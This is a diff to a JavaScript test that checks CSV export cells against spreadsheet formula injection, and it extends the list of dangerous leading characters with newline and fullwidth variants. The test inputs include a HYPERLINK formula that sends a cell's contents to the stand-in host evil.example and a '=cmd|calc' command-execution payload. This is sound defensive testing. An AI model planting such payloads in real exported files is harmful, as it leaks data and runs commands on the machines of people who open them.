@@ -38,12 +38,12 @@ it('there is a CSV file to look at', () => {
 it.each(csvExamples)('$file writes no cell that a spreadsheet would calculate', ({ example }) => {
 	const attacks = [
 		...['=HYPERLINK("https://evil.example/?"&B2,"Open")', '+1+1', '-1', '@SUM(A1)'],
-		...['\t=1', '\r=1', '=cmd|calc'],
+		...['\t=1', '\r=1', '\n=1', '=cmd|calc', '＝1', '＋1', '－1', '＠A'],
 	];
 	for (const cell of cellsOf(example)) {
 		for (const attack of attacks) {
 			const json = { name: { given: attack, family: '' }, username: attack, email: attack };
-			expect(evaluate(cell, json)).not.toMatch(/^[=+\-@\t\r]/);
+			expect(evaluate(cell, json)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
 		}
 		const honest = { name: { given: 'Ada', family: 'Lovelace' }, username: 'ada', email: 'a@b' };
 		expect(['Ada Lovelace', 'ada', 'a@b']).toContain(evaluate(cell, honest));
